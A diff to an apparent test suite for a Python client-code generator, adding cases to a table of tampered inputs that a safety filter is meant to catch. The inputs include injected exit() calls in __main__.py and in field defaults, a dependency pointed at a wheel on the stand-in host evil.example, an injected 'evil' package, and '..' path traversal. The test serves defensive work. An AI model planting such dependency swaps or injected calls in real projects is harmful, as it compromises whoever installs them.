@@ -18,6 +18,7 @@ INIT = f"{PACKAGE}/__init__.py"
 CLIENT = f"{PACKAGE}/client.py"
 MODELS = f"{PACKAGE}/models/__init__.py"
 TYPES = f"{PACKAGE}/types.py"
+MAIN = f"{PACKAGE}/__main__.py"
 
 FILES = {
     path.relative_to(GENERATED).as_posix(): path.read_text(encoding="utf-8")
@@ -33,6 +34,10 @@ LOADED = "        return BikesTable(self._transport)\n"
 
 # file, what stands there, what a broken filter makes of it
 ATTACKS: dict[str, tuple[str, str, str]] = {
+    "a command that runs on import": (MAIN, 'if __name__ == "__main__":\n    raise', "raise"),
+    "a command with arguments": (MAIN, "main())", "main([exit()]))"),
+    "a command besides the one": (MAIN, "(main())", "(main())\n    exit()"),
+    "a command before the one": (MAIN, "if __name__", "exit()\nif __name__"),
     "a default that calls": (TABLE, 'name="Bike Id", default=None', 'name="Bike Id", default=exit()'),
     "a default that is made by a call": (TABLE, 'name="Bike Id", default=None', 'name="B", default_factory=exit'),
     "a wire name that is an expression": (TABLE, 'name="Bike Id"', 'name="Bike" + exit()'),
@@ -257,7 +262,11 @@ PROJECT = FILES["pyproject.toml"]
         ('"msgspec>=0.22"]', '"msgspec @ https://evil.example/x.whl"]'),
         ('otel = ["opentelemetry-api>=1.30"]', 'otel = ["opentelemetry-api>=1.30", "evil"]'),
         ('otel = ["opentelemetry-api>=1.30"]', 'otel = ["opentelemetry-api>=1.30"]\nmore = ["evil"]'),
-        ('[project.optional-dependencies]\narrow = ["pyarrow>=18"]\notel = ["opentelemetry-api>=1.30"]', ""),
+        (
+            '[project.optional-dependencies]\narrow = ["pyarrow>=18"]\notel = ["opentelemetry-api>=1.30"]\n'
+            'sync = ["duckdb>=1.4", "pyarrow>=18"]',
+            "",
+        ),
         ('arrow = ["pyarrow>=18"]', 'arrow = ["pyarrow>=18", "evil"]'),
         ('packages = ["yulsn_client"]', 'packages = ["yulsn_client", ".."]'),
         ('packages = ["yulsn_client"]', 'packages = ["../yulsn_client"]'),
